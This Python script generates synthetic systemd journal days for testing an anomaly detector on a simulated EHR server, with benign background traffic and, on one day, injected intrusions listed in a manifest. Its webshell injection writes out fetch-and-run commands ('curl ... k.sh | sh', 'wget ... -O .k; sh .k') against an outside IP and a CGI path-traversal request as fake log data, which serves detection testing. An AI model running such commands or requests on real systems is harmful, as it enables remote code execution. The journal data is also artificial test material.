#!/usr/bin/env python3
"""One day of the health host's journal for the anomaly report (`make anomaly-report`), in export format.

Builds on $SHARED/bench/gen_journal.py (imported by path, SHARED defaults to ../shared beside the
repository) through scripts/scenarios.py's Corpus class (gen_journal's background with its own
intrusions off, chain entries interleaved by time, kernel audit records as journald stores them):

    python3 scripts/anomaly-days.py --day 0 --benign | systemd-journal-remote --output=DIR/day0.journal -
    python3 scripts/anomaly-days.py --day 7 --benign            # the benign 8th day
    python3 scripts/anomaly-days.py --day 7 --inject --manifest M.json   # the same day, attacked
    python3 scripts/anomaly-days.py --self-test

Day K covers [2024-03-01 + K days, + 1 day) exactly (entries past midnight are dropped); its seed is
derived from K, so the learning days differ. The host is quieter than gen_journal's default:
gen_journal's gaps between entries (85 ms mean) are stretched --time-scale times (default 4: about
255,000 of its entries a day, 3 a second, the same mix of sources; with the audit records added below
about 300,000 entries a day), so seven learning days stay about 2.1 million entries. Brute-force
bursts from the internet stay: they are the host's benign background.

Realism added on every day (benign background, so the model learns it):
- one boot across the days: days 0-2 and the night of day 3 share a boot id; a maintenance reboot at
  03:12 on day 3 starts the boot of days 3-7 (gen_journal's own mid-run reboot is off);
- people (jdoe, asmith, mlopez) log in over SSH from 06:00 to 20:59 only; service accounts around the
  clock;
- kernel audit exec records (SYSCALL, EXECVE, CWD, PATH, PROCTITLE) for a share of the cron jobs
  (cron -> /bin/sh -c -> the job and its children) and of the sudo commands, so the audit side of
  rare_process has executables to learn;
- the EHR API's HikariCP pool timing out now and then (a few ERROR lines an hour, small clusters).

--inject (the attacked day) adds gen_journal's intrusion sequence (ev_attack: brute force, root
login, useradd/usermod, crontab edit, EXECVE wget/chmod, a kernel "rootkit" line) at about 19:00
and four novel behaviours at fixed times, listed in --manifest (JSON) with their entries' realtimes
and the anomaly detector types expected to fire:
- 03:17 a new sshd message type: `fatal: Timeout before authentication for IP port N` (what a
  CVE-2024-6387 "regreSSHion" exploitation attempt leaves; gen_journal never prints it, while it
  does print both `kex_exchange_identification: Connection closed by remote host` and `Bye Bye`);
- 10:42 a shell spawned by the web server: stderr of /usr/bin/dash and stdout of /usr/bin/id under
  nginx.service, and the audit exec records of sh -c, id, uname and sh with an nginx worker as parent.
  (Caveat: journald credits a stdout stream's lines to the process that opened the stream, so a child
  writing to nginx's inherited stderr would show nginx's _PID/_EXE; these entries carry the shell's own,
  as its own stream or syslog connection would. The audit records are the signal a real host gives.);
- 14:05 an error storm in ehr-api.service: ~1,800 HikariCP "Connection is not available" ERROR lines
  in nine minutes (the category runs at about 8 an hour during learning);
- 16:20 jdoe logs in with a public key from 84.115.221.37, a network jdoe never used.
Python 3 standard library only.
"""
import argparse
import hashlib
import importlib.util
import json
import os
import sys
import time

HERE = os.path.dirname(os.path.abspath(__file__))
START = 1709251200                     # 2024-03-01T00:00:00Z
DAY = 86_400_000_000                   # µs
HOUR = 3_600_000_000
MIN = 60_000_000
SEC = 1_000_000
REBOOT_DAY = 3
REBOOT_AT = (START + REBOOT_DAY * 86_400 + 3 * 3600 + 12 * 60) * SEC
PEOPLE = ("jdoe", "asmith", "mlopez")

# Detector types (CORDON_CORRELATION_TYPE) of the anomaly alerts.
TYPES = ("rare_category", "category_rate", "rare_process", "rare_login")


def load_module(name, path):
    if not os.path.exists(path):
        sys.exit("anomaly-days: %s not found (set SHARED)" % path)
    spec = importlib.util.spec_from_file_location(name, path)
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


def boot_id(name):
    return hashlib.sha256(("ehr-app-01 boot " + name).encode()).hexdigest()[:32]


class FixedBits:
    """A random.Random whose getrandbits returns one value: gives gen_journal's ev_reboot a known boot id."""

    def __init__(self, r, value):
        self.r, self.value = r, value

    def getrandbits(self, _):
        return self.value

    def __getattr__(self, name):
        return getattr(self.r, name)


def make_day_class(sc, gj):
    Corpus = sc.make_corpus_class(gj, sc.load_module("audit_export", os.path.join(HERE, "audit-export.py")))
    Proc = sc.Proc

    class Day(Corpus):
        def __init__(self, day, inject, time_scale):
            start = START + day * 86_400
            expected = int(DAY / (85_000 * time_scale))
            super().__init__(7100 + day, 10 * expected, start, time_scale)
            self.day, self.inject, self.expected = day, inject, expected
            self.day_end = start * SEC + DAY
            self.attack_at = [int(expected * 0.95)] if inject else []   # about 19:00 (the additions make ~1.2x expected)
            # One boot over the days (see the module doc): gen_journal's random boot ids and start times replaced.
            if day <= REBOOT_DAY:
                self.boot_id, self.boot_start = boot_id("A"), START * SEC - 11 * DAY - 4_321 * SEC
            else:
                self.boot_id, self.boot_start = boot_id("B"), REBOOT_AT + 45 * SEC
            self.reboot_at = REBOOT_AT if day == REBOOT_DAY else None
            self.session = 100 + day * 1_500
            self.pid = 2_000 + (day * 211_111) % 3_000_000
            self.behaviours = []                      # the manifest's behaviours, in order
            self.captured = None                      # entries of ev_attack while it runs: (rt, key, message)
            self.cron_line = self.sudo_line_seen = None
            self.hikari_next = self.rt + int(self.sr.expovariate(1.0 / (20 * MIN)))

        # ---------- the day's bounds, the boot ----------
        def ev_reboot(self):
            """gen_journal reboots half-way through every run: off; the host reboots once, on day 3 (emit)."""

        def emit(self, key, ident, msg, prio=6, pid=None, extra=None, subst=None):
            if not self.pumping:
                if self.reboot_at is not None and self.rt >= self.reboot_at:
                    self.reboot_at = None
                    saved = self.r
                    self.r = FixedBits(saved, int(boot_id("B"), 16))
                    try:
                        gj.Gen.ev_reboot(self)
                    finally:
                        self.r = saved
                    self.boot_start = REBOOT_AT + 45 * SEC
                if self.hikari_next <= self.rt:
                    self.hikari()
            super().emit(key, ident, msg, prio, pid, extra, subst)
            if not self.pumping:
                at = self.last_rt                     # the entry's realtime
                if self.captured is not None:
                    self.captured.append((at, key, msg))
                if key == "cron" and msg.startswith("(") and " CMD (" in msg:
                    self.cron_line = (msg, pid, at)
                elif (key == "sudo" and "COMMAND=" in msg and " ; USER=root ; " in msg and "incorrect password" not in msg
                      and "NOT in sudoers" not in msg):
                    self.sudo_line_seen = (msg, subst, at)
            if self.rt >= self.day_end and self.n > self.count:
                self.n = self.count                   # the run loop stops; the event's later entries are trimmed

        def run(self, write):
            self.plan()
            gj.Gen.run(self, write)
            for b in self.behaviours:
                if b.get("step") is not None and not b["step"]["entries"]:
                    raise SystemExit("anomaly-days: behaviour %s emitted no entry" % b["name"])

        # ---------- realism on every day ----------
        def ev_sshd_normal(self):
            hour = (self.rt // HOUR) % 24
            if not 6 <= hour <= 20:
                # Night: only the service accounts log in; keep the draw so the mix of other events stays.
                saved = gj.USERS
                gj.USERS = [u for u in saved if u[0] not in PEOPLE]
                try:
                    return super().ev_sshd_normal()
                finally:
                    gj.USERS = saved
            return super().ev_sshd_normal()

        def hikari(self):
            """HikariCP timing out on a busy pool: a few ERROR lines an hour, sometimes a small cluster."""
            r = self.sr
            for i in range(r.choice([1, 1, 1, 2, 3, 5])):
                self.cemit(self.rt + 1 + i * r.randint(50_000, 3 * SEC), "app", "ehr-api", self.hikari_message(self.rt), prio=3, pid=1422)
            self.hikari_next = self.rt + int(r.expovariate(1.0 / (20 * MIN)))

        def hikari_message(self, rt):
            r = self.sr
            t = time.gmtime(rt // SEC)
            ts = "%04d-%02d-%02dT%02d:%02d:%02d.%03dZ" % (t.tm_year, t.tm_mon, t.tm_mday, t.tm_hour, t.tm_min, t.tm_sec, (rt // 1000) % 1000)
            return ("%s ERROR 1 --- [http-nio-8080-exec-%d] com.zaxxer.hikari.pool.HikariPool : HikariPool-1 - Connection is not "
                    "available, request timed out after 30000ms (total=20, active=20, idle=0, waiting=%d)" % (
                        ts, r.randint(1, 200), r.randint(1, 40)))

        CRON_EXECS = {
            "/usr/local/bin/ehr-backup.sh": [(["/bin/bash", "/usr/local/bin/ehr-backup.sh"], "/usr/bin/bash", "/usr/local/bin/ehr-backup.sh",
                                              [(["pg_dump", "-Fc", "ehr"], "/usr/lib/postgresql/15/bin/pg_dump"),
                                               (["gzip", "-6"], "/usr/bin/gzip"), (["find", "/var/backups/ehr", "-mtime", "+14", "-delete"], "/usr/bin/find")])],
            "test -x /usr/sbin/anacron": [(["run-parts", "--report", "/etc/cron.hourly"], "/usr/bin/run-parts", None, [])],
            "/usr/lib/postgresql/15/bin/vacuumdb": [(["/usr/lib/postgresql/15/bin/vacuumdb", "--all", "--analyze-in-stages", "-q"],
                                                     "/usr/lib/postgresql/15/bin/vacuumdb", None, [])],
            "/usr/lib/sysstat/debian-sa1": [(["/bin/sh", "/usr/lib/sysstat/debian-sa1", "1", "1"], "/usr/bin/dash", "/usr/lib/sysstat/debian-sa1",
                                             [(["/usr/lib/sysstat/sadc", "-F", "-L", "-S", "DISK", "1", "1", "/var/log/sysstat"], "/usr/lib/sysstat/sadc")])],
            "/opt/ehr/bin/export-hl7.sh": [(["/bin/bash", "/opt/ehr/bin/export-hl7.sh", "--since", "5m"], "/usr/bin/bash", "/opt/ehr/bin/export-hl7.sh",
                                            [(["find", "/var/lib/ehr/hl7/out", "-mmin", "-5"], "/usr/bin/find"),
                                             (["rsync", "-a", "/var/lib/ehr/hl7/out/", "hl7gw:/inbound/"], "/usr/bin/rsync")])],
        }
        UIDS = {"root": 0, "postgres": 113, "deploy": 1010}

        def ev_cron(self):
            self.cron_line = None
            super().ev_cron()
            if self.cron_line is None or self.sr.random() >= 0.1:
                return
            msg, pid, rt = self.cron_line
            user, cmd = msg[1:].split(") CMD (", 1)
            cmd = cmd[:-1]
            uid = self.UIDS.get(user, 0)
            self.cron_ses = getattr(self, "cron_ses", 40_000 + self.day * 3_000) + 1
            cron = Proc(pid, 640, 0, uid, self.cron_ses, "(none)", "/", "/usr/sbin/cron", ["/usr/sbin/cron", "-f"], comm="cron")
            t = rt + 1_500
            sh = self.spawn(t, cron, ["/bin/sh", "-c", cmd], "/usr/bin/dash", uid=uid, comm="sh",
                            cwd="/root" if uid == 0 else ("/var/lib/postgresql" if uid == 113 else "/home/deploy"))
            for prefix, execs in self.CRON_EXECS.items():
                if cmd.startswith(prefix):
                    for argv, exe, script, children in execs:
                        job = self.spawn(t + 1_200, sh, argv, exe, script=script)
                        for i, (cargv, cexe) in enumerate(children):
                            self.spawn(t + 40_000 + i * 900_000, job, cargv, cexe)

        def ev_sudo(self, u=None, uid=None, s=None):
            self.sudo_line_seen = None
            super().ev_sudo(u, uid, s)
            if self.sudo_line_seen is None or self.sr.random() >= 0.25:
                return
            msg, subst, rt = self.sudo_line_seen
            user = msg.split(":", 1)[0].strip()
            command = msg.split("COMMAND=", 1)[1]
            uid = dict(gj.USERS).get(user, 1001)
            ses = int((subst or {}).get("{S}", self.session))
            shell = Proc(self.nextpid_sr(), self.nextpid_sr(), uid, uid, ses, "pts%d" % self.sr.randint(0, 4), "/home/" + user,
                         "/usr/bin/bash", ["-bash"], comm="bash")
            sudo = self.spawn(rt - 1_400_000, shell, ["sudo"] + command.split(), "/usr/bin/sudo")
            argv = command.split()
            self.spawn(rt + 4_000, sudo, [os.path.basename(argv[0])] + argv[1:], argv[0], uid=0)

        # ---------- the manifest ----------
        def behaviour(self, name, kind, description, expect, step=None, times=None):
            b = {"name": name, "kind": kind, "description": description, "expect": list(expect), "step": step,
                 "times": times if times is not None else []}
            self.behaviours.append(b)
            return b

        def _note(self, t, msg):
            super()._note(t, msg)
            if self.cur is not None:
                self.cur.setdefault("times", []).append(t)

        def manifest(self):
            out = []
            for b in self.behaviours:
                s = b["step"]
                times = sorted(s.get("times", [])) if s is not None else sorted(b["times"])
                sample = s["sample"] if s is not None else b.get("sample", [])
                out.append({"name": b["name"], "kind": b["kind"], "description": b["description"], "expect": b["expect"],
                            "start": times[0] if times else None, "end": times[-1] if times else None,
                            "entries": len(times), "times": times, "sample": sample})
            out.sort(key=lambda b: (b["start"] or 0))
            return {"format": 1, "generator": "scripts/anomaly-days.py", "day": self.day, "seed": 7100 + self.day,
                    "time_scale": self.scale, "host": gj.HOST, "entries": self.count,
                    "time_range": [self.first_rt, self.last_rt], "types": list(TYPES), "behaviours": out}

        # ---------- gen_journal's intrusion, split into behaviours ----------
        def ev_attack(self):
            self.captured = []
            try:
                super().ev_attack()
            finally:
                captured, self.captured = self.captured, None
            parts = [
                ("intrusion: brute force, then root logs in from a new network", ["rare_login"],
                 lambda k, m: k in ("sshd", "logind")),
                ("intrusion: new user sysupdate, password set, added to sudo", ["rare_process"],
                 lambda k, m: k in ("useradd", "passwd", "usermod")),
                ("intrusion: root's crontab edited", ["rare_process"], lambda k, m: k == "crontab"),
                # gen_journal's audit lines are MESSAGE-only EXECVE records (no SYSCALL): a process event named by a0.
                ("intrusion: audit EXECVE wget to /tmp, chmod +x, journal and history wiped", ["rare_category", "rare_process"],
                 lambda k, m: k == "auditd"),
                ("intrusion: systemd reloaded, dbus-update.service started", ["rare_category"], lambda k, m: k == "systemd"),
                ("intrusion: kernel 'rootkit' module taints the kernel", ["rare_category"], lambda k, m: k == "kernel"),
            ]
            for name, expect, test in parts:
                rows = [(rt, m) for rt, k, m in captured if test(k, m)]
                b = self.behaviour(name, "intrusion", "gen_journal ev_attack", expect, times=[rt for rt, _ in rows])
                b["sample"] = [m[:300] for _, m in rows[-3:]]

        # ---------- the injected behaviours ----------
        def plan(self):
            if not self.inject:
                return
            day0 = START * SEC + self.day * DAY
            self.at(day0 + 3 * HOUR + 17 * MIN, self.step("N1", "novel", "sshd", "", "", []), self.inject_sshd)
            self.at(day0 + 10 * HOUR + 42 * MIN, self.step("N2", "novel", "webshell", "", "", []), self.inject_webshell)
            self.at(day0 + 14 * HOUR + 5 * MIN, self.step("N3", "novel", "storm", "", "", []), self.inject_storm)
            self.at(day0 + 16 * HOUR + 20 * MIN, self.step("N4", "novel", "login", "", "", []), self.inject_login)
            steps = self.steps[-4:]
            self.behaviour("injected: new sshd message type (fatal: Timeout before authentication, regreSSHion-like)", "injected",
                           "ssh.service, sshd's _EXE: 30 connections from one address left to time out (LoginGraceTime), "
                           "'fatal: Timeout before authentication for IP port N' at priority 2", ["rare_category"], steps[0])
            self.behaviour("injected: shell spawned by the web server (webshell)", "injected",
                           "nginx.service entries from _EXE=/usr/bin/dash (_COMM=sh: 'sh: 1: curl: not found') and /usr/bin/id; "
                           "audit exec records of sh -c, id, uname, sh with an nginx worker as parent", ["rare_process"], steps[1])
            self.behaviour("injected: error storm in ehr-api.service (HikariCP pool exhausted)", "injected",
                           "~1,800 'HikariPool-1 - Connection is not available' ERROR lines in 9 min; the category runs at "
                           "about 8 an hour during learning (at most ~10 in a 10-minute window)", ["category_rate"], steps[2])
            self.behaviour("injected: jdoe logs in from a new network (84.115.221.0/24)", "injected",
                           "Accepted publickey for jdoe from 84.115.221.37 (jdoe: 10.20.5.0/24 and 10.20.6.0/24 only), "
                           "PAM session, logind, a login shell, logout after 12 minutes", ["rare_login"], steps[3])

        def inject_sshd(self, t):
            ip = "193.32.162.74"
            for i in range(30):
                pid, port = self.nextpid_sr(), self.sr.randint(32768, 60999)
                self.ssh(t + i * 12 * SEC + self.sr.randint(0, 2 * SEC),
                         "fatal: Timeout before authentication for %s port %d" % (ip, port), pid, prio=2)

        def inject_webshell(self, t):
            ip = "103.145.13.201"
            st = self.static["nginx"]
            lines = [l for l in st.splitlines() if not l.startswith(("_COMM=", "_EXE=", "_CMDLINE=", "_TRANSPORT=", "SYSLOG_FACILITY="))]
            base = "\n".join(lines) + "\n_TRANSPORT=stdout\nSYSLOG_FACILITY=3\n"
            self.static["websh"] = base + "_COMM=sh\n_EXE=/usr/bin/dash\n_CMDLINE=sh -c id; uname -a; curl -s http://%s:8080/k.sh | sh\n" % ip
            self.static["webid"] = base + "_COMM=id\n_EXE=/usr/bin/id\n_CMDLINE=id\n"
            worker = Proc(901, 900, 33, 4294967295, 4294967295, "(none)", "/", "/usr/sbin/nginx", ["nginx: worker process"], comm="nginx")
            self.cemit(t, "nginx", "nginx", '%s - - "POST /cgi-bin/.%%2e/.%%2e/.%%2e/.%%2e/bin/sh HTTP/1.1" 200 58 "-" "curl/7.88.1"' % ip, pid=901)
            cmd = "id; uname -a; curl -s http://%s:8080/k.sh | sh" % ip
            sh = self.spawn(t + 20_000, worker, ["sh", "-c", cmd], "/usr/bin/dash", comm="sh", cwd="/usr/lib/cgi-bin")
            i = self.spawn(t + 21_000, sh, ["id"], "/usr/bin/id")
            self.cemit(t + 21_800, "webid", "nginx", "uid=33(www-data) gid=33(www-data) groups=33(www-data)", pid=i.pid)
            self.spawn(t + 23_000, sh, ["uname", "-a"], "/usr/bin/uname")
            self.cemit(t + 24_500, "websh", "nginx", "sh: 1: curl: not found", pid=sh.pid, prio=6)
            self.spawn(t + 25_000, sh, ["sh"], "/usr/bin/dash", comm="sh")
            t2 = t + 95 * SEC
            cmd2 = "cd /tmp; wget -q http://%s:8080/k.sh -O .k; sh .k" % ip
            self.cemit(t2, "nginx", "nginx", '%s - - "POST /cgi-bin/.%%2e/.%%2e/.%%2e/.%%2e/bin/sh HTTP/1.1" 200 0 "-" "curl/7.88.1"' % ip, pid=902)
            worker2 = Proc(902, 900, 33, 4294967295, 4294967295, "(none)", "/", "/usr/sbin/nginx", ["nginx: worker process"], comm="nginx")
            sh2 = self.spawn(t2 + 20_000, worker2, ["sh", "-c", cmd2], "/usr/bin/dash", comm="sh", cwd="/usr/lib/cgi-bin")
            self.static["websh"] = self.static["websh"].replace(self.static["websh"].split("_CMDLINE=")[1], "sh -c %s\n" % cmd2)
            self.cemit(t2 + 30_000, "websh", "nginx", "sh: 1: cannot create .k: Permission denied", pid=sh2.pid, prio=6)

        def inject_storm(self, t):
            r = self.sr
            k = 0
            at = t
            while at < t + 9 * MIN and k < 1_800:
                self.cemit(at, "app", "ehr-api", self.hikari_message(at), prio=3, pid=1422)
                k += 1
                at += int(r.expovariate(1.0 / 280_000)) + 1

        def inject_login(self, t):
            ip = "84.115.221.37"
            fp = "kP3mYv0x9QeWnT4sL8dJb2hR6cA1uZ7gF5iE0oNqXyM"
            shell, s, pid, port, t = self.ssh_login(t, ip, "jdoe", 1001, method="publickey", key_fp=fp)
            self.spawn(t + 6 * SEC, shell, ["ls", "-la"], "/usr/bin/ls")
            self.spawn(t + 40 * SEC, shell, ["cat", "/etc/hosts"], "/usr/bin/cat")
            self.ssh_logout(t + 12 * MIN, ip, "jdoe", s, pid, port)

    return Day


def load(gen_journal=None):
    shared = os.environ.get("SHARED") or os.path.join(HERE, "..", "..", "shared")
    sc = load_module("scenarios", os.path.join(HERE, "scenarios.py"))
    gj = sc.load_module("gen_journal", gen_journal or os.path.join(shared, "bench", "gen_journal.py"))
    return gj, make_day_class(sc, gj)


def generate(day, inject, time_scale, write, gen_journal=None):
    _, Day = load(gen_journal)
    g = Day(day, inject, time_scale)
    g.run(write)
    return g


def self_test(args):
    """Determinism, day bounds, the benign day's lack of injected shapes, and systemd-journal-remote's acceptance."""
    ok = True
    outs = []
    for _ in range(2):
        chunks = []
        g = generate(7, True, args.time_scale, chunks.append, args.gen_journal)
        outs.append((hashlib.sha256(b"".join(chunks)).hexdigest(), json.dumps(g.manifest(), sort_keys=True)))
    same = outs[0] == outs[1]
    print("self-test: day 7 --inject twice: %s" % ("identical" if same else "DIFFERS"))
    ok &= same
    m = json.loads(outs[0][1])
    day0, day1 = (START + 7 * 86_400) * SEC, (START + 8 * 86_400) * SEC
    inside = day0 <= m["time_range"][0] and m["time_range"][1] < day1
    print("self-test: entries %d, time range inside day 7: %s" % (m["entries"], inside))
    ok &= inside
    for b in m["behaviours"]:
        good = b["entries"] > 0 and day0 <= b["start"] <= b["end"] < day1
        print("self-test: %-90s %5d entries %s" % (b["name"][:90], b["entries"], "ok" if good else "MISSING"))
        ok &= good
    chunks = []
    generate(7, False, args.time_scale, chunks.append, args.gen_journal)
    benign = b"".join(chunks)
    # Each shape: byte strings that must not occur together in one entry of the benign day.
    shapes = [(b"Timeout before authentication",), (b"_SYSTEMD_UNIT=nginx.service\n", b"_EXE=/usr/bin/dash\n"),
              (b"_SYSTEMD_UNIT=nginx.service\n", b"_EXE=/usr/bin/id\n"), (b"ppid=90",), (b"84.115.221.",),
              (b"Accepted password for root",), (b"Accepted publickey for root",), (b"rootkit:",), (b"sysupdate",),
              (b'a0="wget"',), (b"Reloading.",)]
    entries = benign.split(b"\n\n")
    for shape in shapes:
        found = sum(1 for e in entries if all(part in e for part in shape))
        print("self-test: benign day 7: entries with %-62s %d" % (" + ".join(repr(p.decode()) for p in shape), found))
        ok &= not found
    hikari = sorted(int(e.split(b"__REALTIME_TIMESTAMP=", 1)[1].split(b"\n", 1)[0]) // (10 * MIN)
                    for e in entries if b"HikariPool-1 - Connection is not available" in e)
    busiest = max((hikari.count(w) for w in set(hikari)), default=0)
    print("self-test: benign day 7: %d HikariCP timeouts, at most %d in a 10-minute window" % (len(hikari), busiest))
    ok &= load_module("scenarios", os.path.join(HERE, "scenarios.py")).journal_remote_accepts("the benign day", lambda: benign)
    print("self-test: %s" % ("PASS" if ok else "FAIL"))
    return 0 if ok else 1


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    ap.add_argument("--day", type=int, default=0, help="0-based day from 2024-03-01 (its seed is derived from it)")
    mode = ap.add_mutually_exclusive_group()
    mode.add_argument("--benign", action="store_true", help="no intrusion, no injection (the default)")
    mode.add_argument("--inject", action="store_true", help="gen_journal's intrusion and the injected behaviours")
    ap.add_argument("--manifest", help="write the behaviours (JSON) here")
    ap.add_argument("--time-scale", type=float, default=4.0, help="stretch gen_journal's gaps (default 4: ~255,000 entries a day)")
    ap.add_argument("--gen-journal", help="path of gen_journal.py (default $SHARED/bench/gen_journal.py, SHARED=../shared)")
    ap.add_argument("--self-test", action="store_true")
    args = ap.parse_args()
    if args.self_test:
        sys.exit(self_test(args))
    t0 = time.time()
    out = sys.stdout.buffer
    g = generate(args.day, args.inject, args.time_scale, out.write, args.gen_journal)
    out.flush()
    m = g.manifest()
    if args.manifest:
        with open(args.manifest, "w") as f:
            json.dump(m, f, indent=1)
            f.write("\n")
    sys.stderr.write("anomaly-days: day %d (%s): %d entries, %d behaviours, in %.1fs\n" % (
        args.day, "inject" if args.inject else "benign", g.count, len(m["behaviours"]), time.time() - t0))


if __name__ == "__main__":
    main()
